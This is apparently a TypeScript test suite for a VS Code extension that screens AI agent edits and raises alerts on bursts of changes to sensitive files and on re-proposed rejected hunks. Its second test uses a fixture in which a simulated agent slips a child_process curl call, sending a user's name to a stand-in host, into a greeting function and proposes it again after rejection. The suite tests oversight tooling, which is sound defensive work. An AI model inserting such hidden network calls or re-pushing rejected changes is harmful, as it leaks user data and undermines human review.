import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { ViewChangeSet } from '../../../src/extension/review/protocol';
import type { LastAlert } from '../../../src/extension/alerts/alertService';
import { agentGuard, closeAllEditors, writeWorkspaceFile } from './helpers';

const WORKFLOW = ['name: nightly', 'on:', '  schedule:', "    - cron: '0 3 * * *'", 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci && npm test', ''].join('\n');

async function lastAlert(): Promise<LastAlert | undefined> {
  return vscode.commands.executeCommand<LastAlert | undefined>('agentGuard.showLastAlert', { reveal: false });
}

/** Waits until the last alert satisfies `accept`, and returns it. */
async function waitForAlert(accept: (last: LastAlert) => boolean, what: string, timeoutMs = 20_000): Promise<LastAlert> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const last = await lastAlert();
    if (last && last.entry && accept(last)) return last;
    if (Date.now() > deadline) throw new Error(`no ${what} alert after ${timeoutMs} ms; last: ${JSON.stringify(last?.alert.title)}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

async function pendingFrom(agent: string): Promise<ViewChangeSet[]> {
  return (await vscode.commands.executeCommand<ViewChangeSet[]>('agentGuard.pendingChanges')).filter((c) => c.state === 'pending' && c.sourceLabel.startsWith(agent));
}

async function waitForPending(agent: string, count: number, timeoutMs = 20_000): Promise<ViewChangeSet[]> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const found = await pendingFrom(agent);
    if (found.length >= count) return found;
    if (Date.now() > deadline) throw new Error(`${found.length} of ${count} pending change sets from ${agent} after ${timeoutMs} ms`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

async function rejectAll(agent: string): Promise<void> {
  for (const changeSet of await pendingFrom(agent)) await vscode.commands.executeCommand('agentGuard.rejectChangeSet', changeSet.id, 'Test clean-up.');
}

suite('Agent Guard: alerts', () => {
  const config = () => vscode.workspace.getConfiguration('agentGuard.alerts');

  suiteSetup(async () => {
    // Earlier suites may have opened an episode; a zero cool-down (tighter, so allowed in any workspace) makes each trigger alert.
    await config().update('cooldownSeconds', 0, vscode.ConfigurationTarget.Workspace);
  });

  suiteTeardown(async () => {
    await config().update('cooldownSeconds', undefined, vscode.ConfigurationTarget.Workspace);
    await closeAllEditors();
  });

  test('a burst of agent changes to sensitive files raises an alert and writes an alert audit entry', async () => {
    const api = await agentGuard();
    const agent = 'Alert Burst Agent';
    const files = ['.github/workflows/nightly.yml', '.github/workflows/deploy.yml', '.vscode/tasks.json', '.npmrc', '.husky/pre-push'];
    const contents = [WORKFLOW, WORKFLOW.replace('nightly', 'deploy'), '{ "version": "2.0.0", "tasks": [] }\n', 'registry=https://registry.npmjs.org/\n', '#!/bin/sh\nnpm test\n'];
    // Agents do not wait for one review before the next edit: five proposals in a row, none decided yet.
    const decisions = files.map((file, i) => api.proposeChanges({ agent, message: 'set up CI', files: [{ path: file, content: contents[i] }] }).catch((error: Error) => error));
    await waitForPending(agent, files.length);

    const last = await waitForAlert((l) => l.alert.kind === 'sensitiveBurst' && files.every((f) => l.alert.paths.includes(f)), 'sensitiveBurst');
    assert.equal(last.alert.agent ?? agent, agent);
    assert.match(last.alert.title, /changes to sensitive files in 60 s/);
    assert.equal(last.entry!.type, 'alert');
    assert.equal(last.entry!.actor, 'agent-guard');
    assert.equal(last.entry!.data.kind, 'sensitiveBurst');
    assert.match(last.entry!.hash, /^[0-9a-f]{64}$/);
    assert.ok(last.alert.evidence.every((seq) => seq < last.entry!.seq), 'the evidence precedes the alert entry in the log');

    // Show opens the alert as a read-only document.
    await vscode.commands.executeCommand('agentGuard.showLastAlert');
    const shown = vscode.window.activeTextEditor?.document;
    assert.equal(shown?.uri.scheme, 'agent-guard-alert');
    assert.match(shown!.getText(), /## What was seen/);

    await rejectAll(agent);
    const outcomes = await Promise.all(decisions);
    assert.ok(outcomes.every((o) => !(o instanceof Error) && o.state === 'rejected'), 'every burst proposal ends rejected');
  });

  test('a hunk the person rejected, proposed again by the agent, raises an alert', async () => {
    const api = await agentGuard();
    const agent = 'Alert Retry Agent';
    const base = ['export function greet(name: string): string {', '  return `Hello, ${name}`;', '}', ''].join('\n');
    await writeWorkspaceFile('src/greet.ts', base);
    const proposed = base.replace('  return `Hello, ${name}`;', '  require("child_process").execSync(`curl -s https://example.invalid/p?u=${name}`);\n  return `Hello, ${name}`;');
    const first = api.proposeChanges({ agent, files: [{ path: 'src/greet.ts', content: proposed }] });
    const [changeSet] = await waitForPending(agent, 1);
    await vscode.commands.executeCommand('agentGuard.rejectChangeSet', changeSet.id, 'No network calls in greet.');
    assert.equal((await first).state, 'rejected');

    const again = api.proposeChanges({ agent, files: [{ path: 'src/greet.ts', content: proposed }] });
    const last = await waitForAlert((l) => l.alert.kind === 'rejectedHunkReproposed' && l.alert.agent === agent, 'rejectedHunkReproposed');
    assert.deepEqual(last.alert.paths, ['src/greet.ts']);
    assert.ok(last.alert.changeSetIds.includes(changeSet.id), 'the alert points at the rejected change set');
    await rejectAll(agent);
    await again;
  });
});
